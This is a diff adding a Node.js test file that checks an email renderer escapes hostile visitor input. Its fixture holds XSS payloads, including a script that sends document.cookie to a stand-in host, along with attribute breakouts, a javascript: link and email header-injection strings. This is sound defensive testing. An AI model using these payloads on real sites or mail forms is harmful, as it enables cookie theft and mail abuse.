@@ -0,0 +1,54 @@
+import { test } from 'node:test'
+import assert from 'node:assert/strict'
+import { createEmailRenderer } from './emails.js'
+
+const emails = createEmailRenderer({ contactEmail: 'owner@example.com', messageDomain: 'example.com', cache: false })
+
+const hostile = {
+  name: '<script>alert("name")</script>',
+  email: 'x@example.com" onclick="alert(1)',
+  subject: 'Hello <b>there</b> a=b "quoted"',
+  message: '<script>document.location="https://evil.example/?c="+document.cookie</script>\n<img src=x onerror=alert(1)>',
+  ticket: 'PF-ABCD-EFGH'
+}
+
+// No tag or attribute from the payload may survive into the HTML part
+const assertInert = (html) => {
+  assert.ok(!/<script/i.test(html), 'no <script> tag')
+  assert.ok(!/<img/i.test(html), 'no <img> tag')
+  assert.ok(!/onclick=|onerror=/i.test(html), 'no event handler attributes')
+  assert.ok(!html.includes('" onclick'), 'attribute not broken out of')
+}
+
+test('notification escapes every visitor-supplied field in the HTML part', () => {
+  const { html, text, subject } = emails.notification(hostile)
+  assertInert(html)
+  assert.ok(html.includes('&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;'))
+  assert.ok(html.includes('a&#61;b &quot;quoted&quot;'))
+  assert.ok(html.includes('mailto:x@example.com&quot; onclick&#61;&quot;alert(1)'))
+  // The text part carries the message verbatim: plain text can't execute
+  assert.ok(text.includes(hostile.message))
+  assert.ok(!text.includes('&lt;'))
+  assert.equal(subject, 'Portfolio Contact: Hello <b>there</b> a=b "quoted" [PF-ABCD-EFGH]')
+})
+
+test('auto-reply escapes the echoed message and refuses unsafe status links', () => {
+  const { html, text } = emails.autoReply({ ...hostile, statusUrl: 'javascript:alert(1)' })
+  assertInert(html)
+  assert.ok(!html.includes('javascript:'))
+  assert.ok(text.includes(hostile.message))
+})
+
+test('header injection in the subject is refused', () => {
+  const injected = { ...hostile, subject: 'Hi\r\nBcc: everyone@example.com' }
+  assert.throws(() => emails.notification(injected), /line breaks/)
+  assert.throws(() => emails.autoReply(injected), /line breaks/)
+  assert.throws(() => emails.notification({ ...hostile, subject: 'Hi\nX-Injected: yes' }), /line breaks/)
+})
+
+test('emails are multipart with a Message-ID on the configured domain', () => {
+  const { html, text, messageId } = emails.notification(hostile)
+  assert.ok(html.startsWith('<!DOCTYPE html') || html.includes('<html'))
+  assert.ok(text.length > 0)
+  assert.match(messageId, /^<[0-9a-f-]{36}@example\.com>$/)
+})